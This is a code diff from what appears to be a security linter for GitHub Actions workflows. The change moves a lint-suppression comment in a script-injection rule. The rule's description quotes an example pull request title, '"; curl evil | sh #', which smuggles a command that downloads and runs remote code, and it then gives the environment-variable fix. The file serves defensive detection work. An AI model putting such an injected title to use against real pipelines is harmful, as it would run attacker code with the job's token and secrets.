@@ -115,8 +115,8 @@ export const scriptInjection: GRule = {
   id: 'gha/script-injection',
   severity: 'high',
   title: 'Attacker-controlled context expanded into a script',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax, not a JS template
   description:
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: GitHub expression syntax, not a JS template
     '`${{ … }}` is pasted into the script text before the shell (or github-script) runs it, so a pull request title like `"; curl evil | sh #` becomes code running with the job\'s token and secrets. Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}` and use `"$TITLE"`).',
   references: [
     'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
